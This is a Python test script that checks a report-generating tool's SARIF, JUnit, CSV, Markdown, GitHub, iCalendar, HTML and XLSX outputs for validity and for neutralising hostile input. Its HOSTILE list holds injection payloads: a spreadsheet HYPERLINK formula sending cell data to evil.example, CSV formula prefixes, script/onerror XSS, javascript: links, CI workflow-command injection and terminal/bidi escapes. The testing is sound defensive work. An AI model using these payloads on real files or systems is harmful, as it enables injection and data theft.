"""Reports held against readers that are not ours: the OASIS schema for SARIF, an XML parser for JUnit, Python's csv and
json, a Markdown renderer; on a small check, on a ledger whose cells try to be more than text, and on many findings.

usage: validate.py SHIXIAN SHARED
"""
import csv
import html.parser
import io
import json
import os
import re
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as ET

import icalendar
import jsonschema
import openpyxl
from markdown_it import MarkdownIt

shixian, shared = os.path.abspath(sys.argv[1]), os.path.abspath(sys.argv[2])

PACK = """shixian: 1
pack: p
title: {zh: 工作方案, en: Work plan}
calendar: china
time-zone: Asia/Shanghai
rules:
- id: reply
  title: {zh: 5日内答复, en: a reply within 5 days}
  severity: high
  for-each: received
  expect: replied
  same: [case]
  within: 5 days
- id: figure
  severity: low
  for-each: stated
  assert: figure >= 3
- id: training
  for-every: {unit: from-log, period: year}
  expect: training.held
  at-least: 1
"""

MAPPING = """shixian-log: 1
encoding: utf-8
time-zone: Asia/Shanghai
attributes: {case: case, unit: unit, figure: figure}
event: {column: event}
time: time
"""

# Each stands in a cell of its own; the pieces after it must not be found where they would act.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "＝1+1", "<script>window.pwned=1</script>",
    "<img src=x onerror=alert(1)>", "]]>", "</failure><!-- ", "\x1b[31mred\x1b]0;title\x07", "::error file=a::pwned",
    "##[add-mask]x", "a\u202egnp.exe", "\u2066isolate\u2069", "nul\x00here", "[click](javascript:alert(1))", "![x](http://evil.example/x)",
    "| a | b |", "`code` **bold** @someone #1 http://evil.example www.evil.example", "%0A::warning::x", "&lt;b&gt;",
    "\u2028line\u2029", "\ufeffbom", "\ufffe", "line\nbreak ::error::x", "\t=1+1", "'quoted\"", "\\[x\\]"]

FORMATS = ["text", "jsonl", "json", "sarif", "junit", "codequality", "github", "csv", "markdown"]

failures = []


def expect(condition, message):
    if not condition:
        failures.append(message)


def check(folder, *arguments, code=1):
    run = subprocess.run([shixian, "check", "-r", "pack.yaml", "--as-of", "2020-12-31", *arguments], cwd=folder,
                         capture_output=True)
    if run.returncode != code:
        sys.exit(f"{arguments}: exit {run.returncode}: {run.stderr.decode()[:2000]}")
    for name in arguments[arguments.index("-o") + 1::2]:
        expect(os.path.exists(os.path.join(folder, name.split("=")[1])), run.stderr.decode()[:2000])
    if failures:
        sys.exit("\n".join(failures))
    return run.stdout


def write(folder, name, content):
    with open(os.path.join(folder, name), "wb") as file:
        file.write(content)


def ledger(rows):
    text = io.StringIO()
    writer = csv.writer(text, lineterminator="\r\n")
    writer.writerow(["case", "event", "time", "unit", "figure"])
    writer.writerows(rows)
    return text.getvalue().encode("utf-8", "surrogatepass")


def all_reports(folder, *arguments, code=1):
    names = {format: f"report.{format}" for format in FORMATS}
    outputs = [part for format, name in names.items() for part in ("-o", f"{format}={name}")]
    check(folder, *arguments, *outputs, code=code)
    return {format: open(os.path.join(folder, name), "rb").read() for format, name in names.items()}


def validate_sarif(text):
    schema = os.path.join(shared, "schemas", "sarif-schema-2.1.0.json")
    if os.path.exists(schema):
        jsonschema.Draft7Validator(json.load(open(schema))).validate(json.loads(text))
    else:
        print("no SARIF schema here: SARIF is not held against it")
    run = json.loads(text)["runs"][0]
    ids = [rule["id"] for rule in run["tool"]["driver"]["rules"]]
    for result in run["results"]:
        expect(ids[result["ruleIndex"]] == result["ruleId"], "SARIF: ruleIndex")
        region = result["locations"][0]["physicalLocation"]["region"]
        expect({"startLine", "startColumn", "endLine", "endColumn"} <= region.keys(), "SARIF: region")
        expect(result["partialFingerprints"]["primaryLocationLineHash"], "SARIF: fingerprint")
    return run


def validate_junit(text):
    root = ET.fromstring(text)
    for suite in root:
        cases = list(suite)
        expect(int(suite.get("tests")) == len(cases), "JUnit: tests")
        for kind, name in [("failures", "failure"), ("errors", "error"), ("skipped", "skipped")]:
            expect(int(suite.get(kind)) == sum(case.find(name) is not None for case in cases), f"JUnit: {kind}")
    return root


def validate_codequality(text):
    issues = json.loads(text)
    expect(not text.startswith(b"\xef\xbb\xbf"), "Code Quality: byte order mark")
    fingerprints = [issue["fingerprint"] for issue in issues]
    expect(len(set(fingerprints)) == len(fingerprints), "Code Quality: fingerprints repeat")
    for issue in issues:
        expect(issue["severity"] in ("info", "minor", "major", "critical", "blocker"), "Code Quality: severity")
        expect(not issue["location"]["path"].startswith("./"), "Code Quality: path")
        expect(issue["location"]["lines"]["begin"] >= 1 and issue["description"] and issue["check_name"], "Code Quality")
    return issues


def read_csv(text):
    expect(text.startswith(b"\xef\xbb\xbf"), "CSV: no byte order mark")
    expect(text.count(b"\r\n") == text.count(b"\n"), "CSV: line ends")
    return list(csv.reader(io.StringIO(text.decode("utf-8-sig"), newline=""), strict=True))


def same_findings_everywhere():
    with tempfile.TemporaryDirectory() as folder:
        write(folder, "pack.yaml", PACK.encode())
        write(folder, "log.csv", ledger([
            ["1", "received", "2020-06-01", "", ""], ["1", "replied", "2020-06-09", "", ""],
            ["2", "received", "2020-06-01", "", ""], ["3", "received", "2020-12-30", "", ""],
            ["4", "stated", "2020-06-01", "", "2"], ["5", "stated", "2020-06-01", "", ""],
            ["", "training.held", "2019-03-01", "云岩区", ""]]))
        reports = all_reports(folder, "log.csv")
        lines = [json.loads(line) for line in reports["jsonl"].splitlines()]
        found = [line for line in lines if "rule" in line]
        violated = {one["fingerprint"] for one in found if one["verdict"] in ("late", "missing", "breached")}
        undetermined = {one["fingerprint"] for one in found if one["verdict"] == "undetermined"}
        expect(len(violated) == 4 and len(undetermined) == 1, f"findings: {found}")

        expect(json.loads(reports["json"])["findings"] == found, "JSON and JSON lines differ")
        run = validate_sarif(reports["sarif"])
        of = lambda kind: {r["partialFingerprints"]["primaryLocationLineHash"] for r in run["results"] if r["kind"] == kind}
        expect(of("fail") == violated and of("open") == undetermined, "SARIF: results")
        issues = validate_codequality(reports["codequality"])
        expect({issue["fingerprint"] for issue in issues} == violated | undetermined, "Code Quality: issues")
        root = validate_junit(reports["junit"])
        expect({case.get("name") for case in root.iter("testcase") if case.find("failure") is not None}
               == {"reply", "figure", "training"}, "JUnit: failures")
        rows = read_csv(reports["csv"])
        expect({row[-1] for row in rows[1:]} == {one["fingerprint"] for one in found}, "CSV: rows")
        html = MarkdownIt("commonmark").enable("table").render(reports["markdown"].decode())
        expect(len(ET.fromstring(f"<x>{html}</x>").findall("table")) == 4, "Markdown: tables")


def inert():
    """Nothing that stands in a cell acts in any report, and every report can be read."""
    with tempfile.TemporaryDirectory() as folder:
        write(folder, "pack.yaml", PACK.encode())
        rows = []
        for value in HOSTILE:
            rows += [[value, "received", "2020-06-01", "", ""], [value, "stated", "2020-06-01", "", value],
                     [value, "training.held", "2018-06-01", value, ""], [value, "replied", value, "", ""]]
        text = ledger(rows) + b'"\xff\xfe\x80",received,2020-06-01,,\r\n'
        write(folder, "log.csv", text)
        write(folder, "mapping.yaml", MAPPING.encode())
        reports = all_reports(folder, "-m", "mapping.yaml", "log.csv", code=3)
        for format, report in reports.items():
            body = report.decode("utf-8")  # strictly
            bare = body.removeprefix("\ufeff") if format == "csv" else body
            for character in "\x00\x1b\x07\u202e\u2066\u2069\u2028\u2029\ufeff":
                expect(character not in bare, f"{format}: holds {character!r}")
        validate_sarif(reports["sarif"])
        for result in json.loads(reports["sarif"])["runs"][0]["results"]:
            expect(not re.search(r"(?<!\\)\]\(", result["message"]["text"]), f"SARIF: link: {result['message']['text']}")
        validate_junit(reports["junit"])
        validate_codequality(reports["codequality"])
        for row in read_csv(reports["csv"]):
            for field in row:
                expect(not re.match(r"[=+\-@＝＋－＠\t\r]", field), f"CSV: formula: {field}")
        for line in reports["github"].decode().splitlines():
            expect("##[" not in line, f"GitHub: {line}")
            if not line.startswith("| "):
                expect(re.match(r"::(error|warning|notice|group|endgroup)( (file=[^:]*,)?title=[^:]*)?::", line), f"GitHub: {line}")
        html = MarkdownIt("commonmark", {"html": True, "linkify": False}).enable("table").render(reports["markdown"].decode())
        tree = ET.fromstring(f"<x>{html}</x>")
        allowed = {"x", "h2", "h3", "p", "strong", "table", "thead", "tbody", "tr", "th", "td", "ul", "li", "code"}
        expect({node.tag for node in tree.iter()} <= allowed, f"Markdown: {({node.tag for node in tree.iter()} - allowed)}")
        markdown = reports["markdown"].decode()
        expect("://" not in markdown and "@someone" not in markdown and "#1" not in markdown, "Markdown: a link or mention")
        for line in reports["text"].decode().splitlines():
            expect(not line.lstrip().startswith("::"), f"text: {line}")


def calendar():
    """A calendar library reads the deadlines, whatever the cells hold."""
    with tempfile.TemporaryDirectory() as folder:
        write(folder, "pack.yaml", PACK.encode())
        rows = [[value, "received", "2020-12-29", "", ""] for value in HOSTILE if "\n" not in value]
        write(folder, "log.csv", ledger(rows))
        run = subprocess.run([shixian, "due", "-r", "pack.yaml", "--as-of", "2020-12-30", "log.csv", "--ics", "due.ics"],
                             cwd=folder, capture_output=True)
        expect(run.returncode == 0, run.stderr.decode()[:2000])
        text = open(os.path.join(folder, "due.ics"), "rb").read()
        expect(all(len(line) <= 75 for line in text.split(b"\r\n")), "iCalendar: a line is longer than 75 octets")
        expect(text.count(b"\r\n") == text.count(b"\n"), "iCalendar: line ends")
        events = list(icalendar.Calendar.from_ical(text).walk("VEVENT"))
        expect(len(events) == len(rows) and len({str(event["UID"]) for event in events}) == len(rows), "iCalendar: events")
        for event in events:
            expect(not event.errors, f"iCalendar: {event.errors}")
            expect(str(event["DTSTART"].dt) == "2021-01-04" and str(event["DTEND"].dt) == "2021-01-05", "iCalendar: day")
        summaries = [str(event["SUMMARY"]) for event in events]
        expect("%0A::warning::x: a reply within 5 days" in summaries, f"iCalendar: {summaries}")
        expect("[click](javascript:alert(1)): a reply within 5 days" in summaries, f"iCalendar: {summaries}")


class Tags(html.parser.HTMLParser):
    """Every tag of a page with its attributes, and whether they close as they open."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.open = [], []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))
        if tag not in ("meta", "br"):
            self.open.append(tag)

    def handle_endtag(self, tag):
        expect(self.open and self.open.pop() == tag, f"HTML: </{tag}> closes nothing")


TABLE = """shixian-table: 1
title: cases
time-zone: Asia/Shanghai
same: [case]
opened-by: received
closed-by: replied
columns:
- {title: all units, where: 'has(unit)'}
all-columns: all
received: received
carried-over: carried over
outcomes:
- {title: '=HYPERLINK("http://x")<script>', where: 'figure == "1"'}
total: closed
carried-forward: carried forward
"""


def tables():
    """The scorecard with the table of cases, and what is due, as a page and as a workbook, whatever units and cases are called."""
    with tempfile.TemporaryDirectory() as folder:
        write(folder, "pack.yaml", PACK.encode())
        write(folder, "table.yaml", TABLE.encode())
        values = [value for value in HOSTILE if "\n" not in value]
        rows = [[value, "received", "2020-06-01", value, ""] for value in values]
        rows += [[value, "replied", "2020-06-03", value, value] for value in values[::2]]
        write(folder, "log.csv", ledger(rows))
        listings(folder, ["assess", "--table", "table.yaml"], ["About", "by unit", "by rule", "by month", "to put right", "table",
                                                               "cases without a line", "every case"])
        book = openpyxl.load_workbook(os.path.join(folder, "out.xlsx"))
        # Width and blanks around do not tell units apart.
        expect(20 < book["by unit"].max_row <= len(values) + 1, f"units: {book['by unit'].max_row}")
        figures = {row[0].value: [cell.value for cell in row[1:]] for row in book["table"].iter_rows(min_row=2)}
        counted = book["every case"].max_row - 1
        expect(figures["received"] == [counted, counted], f"table: {figures} of {counted}")
        closed = figures["closed"][1]
        expect(closed + figures["carried forward"][1] == counted, f"table: {figures}")
        expect(book["cases without a line"].max_row - 1 == closed, "table: every case that is closed has an unknown outcome")
        listings(folder, ["due"], ["About", "open", "overdue", "by owner"])


def listings(folder, command, sheets):
    run = subprocess.run([shixian, *command, "-r", "pack.yaml", "--as-of", "2020-12-30", "log.csv", "-o", "out.html", "-o",
                          "out.xlsx", "-o", "out.txt"], cwd=folder, capture_output=True)
    expect(run.returncode == 0 and not run.stdout, run.stderr.decode()[:2000])
    text = open(os.path.join(folder, "out.txt"), encoding="utf-8").read()
    for character in "\x00\x1b\x07\u202e\u2066\u2069\u2028\u2029\ufeff":
        expect(character not in text, f"text: holds {character!r}")
    page = open(os.path.join(folder, "out.html"), encoding="utf-8").read()
    tags = Tags(page)
    expect(not tags.open, f"HTML: open at the end: {tags.open}")
    allowed = {"html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "p", "section", "div", "table",
               "thead", "tbody", "tr", "th", "td", "bdi", "svg", "rect"}
    expect({tag for tag, _ in tags.tags} <= allowed, f"HTML: {({tag for tag, _ in tags.tags} - allowed)}")
    for _, attributes in tags.tags:
        expect(not any(name.startswith("on") or name in ("src", "href") for name in attributes), f"HTML: {attributes}")
    book = openpyxl.load_workbook(os.path.join(folder, "out.xlsx"))
    expect(book.sheetnames == sheets, f"{book.sheetnames}")
    for sheet in book:
        for row in sheet.iter_rows():
            expect(all(cell.data_type != "f" for cell in row), f"XLSX: a formula in {sheet.title}")


def many():
    """Formats with a limit keep to it and say what they leave out; the others hold everything."""
    count = 6000
    with tempfile.TemporaryDirectory() as folder:
        write(folder, "pack.yaml", PACK.encode())
        write(folder, "log.csv", ledger([[i, "received", "2020-06-01", "", ""] for i in range(count)]))
        reports = all_reports(folder, "log.csv")
        run = validate_sarif(reports["sarif"])
        expect(len(run["results"]) == 5000, "SARIF: not 5,000 results")
        notices = [n["message"]["text"] for n in run["invocations"][0]["toolExecutionNotifications"]]
        expect(notices == ["1000 more findings are left out, for code hosts take no more than 5000; --format jsonl lists "
                           "all"], f"SARIF: {notices}")
        failure = validate_junit(reports["junit"]).find(".//failure")
        expect(failure.text.splitlines()[-1] == "… and 5950 more; --format jsonl lists all", "JUnit: what is cut")
        expect(len(failure.text.splitlines()) == 51, "JUnit: lines")
        expect("… and 5800 more; `--format jsonl` lists all" in reports["markdown"].decode(), "Markdown: what is cut")
        expect(len(reports["markdown"]) < 1 << 20, "Markdown: too large for a step's summary")
        commands = [line for line in reports["github"].decode().splitlines() if line.startswith("::")]
        expect(len(commands) == 9 + 3 and commands[9].startswith("::notice::5991 more findings"), f"GitHub: {commands[9:]}")
        expect(len(validate_codequality(reports["codequality"])) == count, "Code Quality: not all")
        expect(len(read_csv(reports["csv"])) == count + 1, "CSV: not all")


same_findings_everywhere()
inert()
calendar()
tables()
many()
for failure in failures[:40]:
    print(failure)
sys.exit(1 if failures else 0)
